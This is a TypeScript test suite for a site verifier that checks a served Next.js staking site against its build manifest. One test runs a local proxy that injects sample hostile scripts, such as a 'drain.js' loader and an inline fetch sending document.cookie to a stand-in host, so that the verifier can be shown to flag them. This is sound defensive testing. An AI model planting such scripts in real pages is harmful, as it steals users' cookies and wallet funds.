// stardust-verify-site against the real production server of the build `pnpm test` already made (the site's
// `test` task runs after its `build`): it passes on the build as served, every language of every page rendered per
// request included, and names the file after one served chunk is changed in a copy of the standalone output (the
// shared build stays as built), and the page after a proxy in front adds a script to a prerendered page and to pages
// rendered per request. Every server it starts dies with this process, however the run ends.
import { execFile, spawn, type ChildProcess } from 'node:child_process'
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { LOCALES } from '../src/i18n/locales'
import { siteManifest } from './siteManifest.mjs'
import { walletAllowlistSha256 } from '../src/walletGuard/allowlistHash'
import type { WalletAllowlist } from '../src/walletGuard/walletAllowlist'

const web = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..')
const distDir = path.join(web, process.env.NEXT_DIST_DIR || '.next')
const standalone = path.join(distDir, 'standalone')
const manifestFile = path.join(distDir, 'stardust-manifest.json')
const cli = path.join(web, 'scripts', 'stardust-verify-site.mjs')
// A production server's start and a site's first pages, on two cores shared with other suites.
const SITE_TIMEOUT_MS = 480_000

type Manifest = {
  walletAllowlistSha256: string
  pages: Record<string, { sha256: string; scripts: string[] }>
  dynamicPages: string[]
  inlineScripts: string[]
  files: Record<string, string>
}

// Loaded into each server before its own code: it exits when its standard input ends, which the kernel does when this
// process dies (a failed test, Ctrl-C, a killed worker alike), so no server outlives the run.
const EXIT_WITH_PARENT = `data:text/javascript,${encodeURIComponent("process.stdin.on('end', () => process.exit(0)).on('error', () => process.exit(0)).resume()")}`

async function freePort(): Promise<number> {
  return await new Promise((resolve, reject) => {
    const server = createServer().once('error', reject)
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number }
      server.close(() => resolve(port))
    })
  })
}

type Site = { url: string; stop: () => Promise<void> }

/** The production server of a standalone folder on 127.0.0.1; resolves once it answers its liveness probe. */
async function startSite(root: string): Promise<Site> {
  const port = await freePort()
  const dataDir = mkdtempSync(path.join(tmpdir(), 'verify-site-data-'))
  const child: ChildProcess = spawn(process.execPath, ['--import', EXIT_WITH_PARENT, path.join(root, 'apps', 'web', 'server', 'production.mjs')], {
    stdio: ['pipe', 'ignore', 'ignore'],
    env: {
      ...process.env,
      NODE_ENV: 'production',
      AUTH_SECRET: 'verify-site-test-secret-0123456789abcdef0123456789',
      NEXTAUTH_URL: `http://127.0.0.1:${port}`,
      NEXT_TELEMETRY_DISABLED: '1',
      STARDUST_DATA_DIR: dataDir,
      // One instance on PGlite: production asks for DATABASE_URL and REDIS_URL otherwise.
      STARDUST_SINGLE_INSTANCE: '1',
      HOST: '127.0.0.1',
      PORT: String(port),
    },
  })
  const stop = async () => {
    if (child.exitCode === null && child.signalCode === null) await new Promise((resolve) => child.once('exit', resolve).kill('SIGKILL'))
    rmSync(dataDir, { recursive: true, force: true })
  }
  const url = `http://127.0.0.1:${port}`
  for (;;) {
    if (child.exitCode !== null) throw new Error(`the production server of ${root} exited with ${child.exitCode}`)
    const live = await fetch(`${url}/api/health/live`).then((answer) => answer.ok, () => false)
    if (live) return { url, stop }
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
}

async function verify(url: string): Promise<{ code: number; out: string }> {
  return await new Promise((resolve) => {
    execFile(process.execPath, [cli, url, '--manifest', manifestFile], (error, stdout, stderr) => {
      resolve({ code: error ? Number(error.code) : 0, out: `${stdout}${stderr}` })
    })
  })
}

const manifest = (): Manifest => JSON.parse(readFileSync(manifestFile, 'utf8')) as Manifest

beforeAll(() => {
  if (!existsSync(manifestFile) || !existsSync(standalone))
    throw new Error(`${path.relative(web, manifestFile)} or the standalone folder is missing: build the site first (pnpm --filter web build)`)
})

describe('stardust-verify-site', () => {
  let site: Site
  beforeAll(async () => {
    site = await startSite(standalone)
  }, SITE_TIMEOUT_MS)
  afterAll(async () => await site?.stop())

  test('behavior: passes on the production server serving the build, every page rendered per request included', async () => {
    const { code, out } = await verify(site.url)
    expect(out).toContain('serves the build')
    const { pages, dynamicPages } = manifest()
    const count = Object.keys(pages).filter((route) => !route.startsWith('/_')).length + dynamicPages.length
    expect(out).toMatch(new RegExp(`\\(${count} pages and \\d+ files of commit`))
    expect(code).toBe(0)
  }, SITE_TIMEOUT_MS)

  describe('behavior: a copy of the standalone output, altered', () => {
    let copy = ''
    beforeAll(() => {
      copy = mkdtempSync(path.join(tmpdir(), 'verify-site-copy-'))
      cpSync(standalone, copy, { recursive: true, verbatimSymlinks: true })
    }, SITE_TIMEOUT_MS)
    afterAll(() => rmSync(copy, { recursive: true, force: true }))

    // Reproducibility's cheap part in every run: the manifest made again from the shipped folder, elsewhere.
    test('untouched, in another folder: the manifest made from it is the build\'s, byte for byte', () => {
      const app = path.join(copy, 'apps', 'web')
      const record = path.resolve(web, process.env.STARDUST_BUILD_DEPLOYMENTS_FILE?.trim() || path.join('..', '..', 'packages', 'contracts', 'deployments', 'deployments.json'))
      const again = siteManifest({ web: app, distDir: path.join(app, path.basename(distDir)), env: { STARDUST_BUILD_DEPLOYMENTS_FILE: record } })
      expect(`${JSON.stringify(again, null, 2)}\n`).toBe(readFileSync(manifestFile, 'utf8'))
    }, SITE_TIMEOUT_MS)

    test('one served chunk changed: exit 1 naming the chunk', async () => {
      const home = Object.keys(manifest().pages).find((route) => !route.startsWith('/_'))!
      const chunk = manifest().pages[home]!.scripts.find((script) => script.startsWith('/_next/static/chunks/'))!.split('?')[0]!
      const onDisk = path.join(copy, 'apps', 'web', '.next', chunk.replace('/_next/', ''))
      const original = readFileSync(onDisk)
      writeFileSync(onDisk, Buffer.concat([original, Buffer.from('\n;globalThis.changed=1\n')]))
      const altered = await startSite(copy)
      try {
        const { code, out } = await verify(altered.url)
        expect(out).toContain(`${chunk}: differs from the manifest`)
        expect(code).toBe(1)
      } finally {
        await altered.stop()
        writeFileSync(onDisk, original)
      }
    }, SITE_TIMEOUT_MS)
  })

  // Next serves a prerendered page from what it rendered, not from its .html file: the script is added on the
  // way, as a swapped CDN or a hijacked proxy would.
  test('behavior: pages add scripts on the way (a proxy in front): exit 1 naming each page and script', async () => {
    // English is prerendered under /en (the site's proxy rewrites /privacy-policy there).
    const route = Object.keys(manifest().pages).find((key) => key.endsWith('/privacy-policy'))!
    const added: Record<string, string> = {
      [route]: '<script src="https://cdn.example.net/drain.js"></script>',
      // Pages rendered per request: a script from elsewhere, an inline one, one from the site itself, a handler.
      '/de/stake': '<script src="https://cdn.example.net/drain.js"></script>',
      '/ja/claim': '<script>fetch("https://cdn.example.net/"+document.cookie)</script>',
      '/en/purchase': '<script src="/drain.js"></script>',
      '/ar/stardust': '<img src="/icon.svg" onload="fetch(\'https://cdn.example.net/\')">',
    }
    const proxy = createHttpServer((request, answer) => {
      void (async () => {
        const upstream = await fetch(`${site.url}${request.url}`)
        let body = Buffer.from(await upstream.arrayBuffer())
        const script = added[request.url ?? '']
        if (script) body = Buffer.from(body.toString('utf8').replace('</head>', `${script}</head>`))
        answer.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'text/plain' }).end(body)
      })()
    })
    const port = await freePort()
    await new Promise<void>((resolve) => proxy.listen(port, '127.0.0.1', resolve))
    try {
      const { code, out } = await verify(`http://127.0.0.1:${port}`)
      expect(out).toContain(`page ${route}: differs from the manifest; scripts not built: https://cdn.example.net/drain.js`)
      expect(out).toContain(`page ${route}: loads https://cdn.example.net/drain.js from another origin`)
      expect(out).toContain('page /de/stake: loads https://cdn.example.net/drain.js from another origin')
      expect(out).toMatch(/page \/ja\/claim: runs inline scripts the build did not write: inline sha256-[A-Za-z0-9+/]+=*\n/)
      expect(out).toContain('/drain.js: not in the manifest (loaded by page /en/purchase)')
      expect(out).toContain('page /ar/stardust: runs code from attributes: <img onload>')
      // Only the altered pages are named: the same pages in other languages pass.
      for (const other of [route.replace('privacy-policy', 'terms-of-use'), '/fr/stake', '/ko/claim', '/de/purchase', '/en/stardust']) expect(out).not.toContain(`page ${other}:`)
      expect(out.match(/^page /gm)).toHaveLength(5)
      expect(code).toBe(1)
    } finally {
      await new Promise((resolve) => proxy.close(resolve))
    }
  }, SITE_TIMEOUT_MS)

  test('behavior: a site nobody answers for is an error in words, exit 2', async () => {
    const { code, out } = await verify(`http://127.0.0.1:${await freePort()}`)
    expect(out).toMatch(/cannot reach http:\/\/127\.0\.0\.1:\d+\/.*ECONNREFUSED/)
    expect(code).toBe(2)
  }, SITE_TIMEOUT_MS)
})

test('the manifest lists each page rendered per request in every language, and the inline scripts the build wrote', () => {
  const { dynamicPages, inlineScripts } = manifest()
  for (const page of ['stake', 'claim', 'claim-arbitrum', 'claim-mantle', 'purchase', 'stardust'])
    expect(dynamicPages.filter((route) => route.split('/')[2] === page), page).toHaveLength(LOCALES.length)
  expect(dynamicPages).toContain('/en/stake')
  expect(dynamicPages).toContain('/es/stake') // es-419's prefix
  expect(dynamicPages.some((route) => route.includes('['))).toBe(false)
  expect(inlineScripts.length).toBeGreaterThan(0)
  for (const script of inlineScripts) expect(script).toMatch(/^inline sha256-/)
})

test('the manifest records the wallet-request allowlist by walletAllowlistSha256 of what the build inlined', () => {
  const inlined = (JSON.parse(readFileSync(path.join(distDir, 'required-server-files.json'), 'utf8')) as { config: { env: Record<string, string> } }).config.env
    .STARDUST_WALLET_ALLOWLIST!
  expect(manifest().walletAllowlistSha256).toBe(walletAllowlistSha256(JSON.parse(inlined) as WalletAllowlist))
})
